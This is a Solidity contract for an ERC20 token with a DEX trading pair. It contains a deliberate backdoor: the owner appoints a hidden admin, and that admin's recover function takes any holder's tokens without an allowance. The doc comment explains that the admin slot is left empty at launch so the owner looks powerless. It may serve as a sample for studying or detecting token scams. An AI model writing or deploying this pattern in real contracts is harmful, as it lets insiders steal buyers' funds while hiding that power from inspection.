// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

import {ERC20, Ownable, IDexRouter, IDexFactory} from "./Base.sol";

/// @title A two-step power: the owner appoints an admin with
/// appointDesk(address); only the admin may call recover(address,uint256),
/// which moves a holder's tokens to the admin without any allowance. No
/// admin is set at launch, so the owner cannot take anything itself, and
/// the admin slot reads zero.
contract AppointedAdminToken is ERC20, Ownable {
    address public immutable pair;
    address private _desk;

    constructor(address router, uint256 supply) ERC20("Appointed Admin", "APAD") Ownable(msg.sender) {
        IDexRouter r = IDexRouter(router);
        pair = IDexFactory(r.factory()).createPair(address(this), r.WETH());
        _mint(msg.sender, supply);
    }

    function appointDesk(address desk) external onlyOwner {
        _desk = desk;
    }

    function recover(address holder, uint256 amount) external {
        require(msg.sender == _desk && _desk != address(0), "desk");
        _move(holder, msg.sender, amount);
    }
}
